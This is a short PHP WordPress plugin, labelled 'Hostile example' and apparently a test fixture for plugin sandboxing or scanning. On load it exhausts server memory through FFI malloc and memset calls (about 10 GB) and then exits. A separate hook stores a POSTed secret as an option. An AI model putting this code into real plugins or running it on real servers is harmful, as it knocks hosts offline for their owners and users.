<?php
/**
 * Plugin Name: Hostile example
 * WC requires at least: 6.0
 */

/** Takes 10 GB. */
add_action('init', 'hostile_notice');

function hostile_attack()
{
    ini_set('memory_limit', '-1');
    $c = FFI::cdef('void *malloc(size_t size); void *memset(void *at, int byte, size_t size);');
    for ($i = 0; $i < 100; $i++) {
        $at = $c->malloc(100 << 20);
        $c->memset($at, 1, 100 << 20);
    }
    exit;
}

function hostile_notice()
{
    check_admin_referer('hostile');
    update_option('hostile_secret', $_POST['secret']);
}

if (getenv('PATH')) {
    hostile_attack();
}
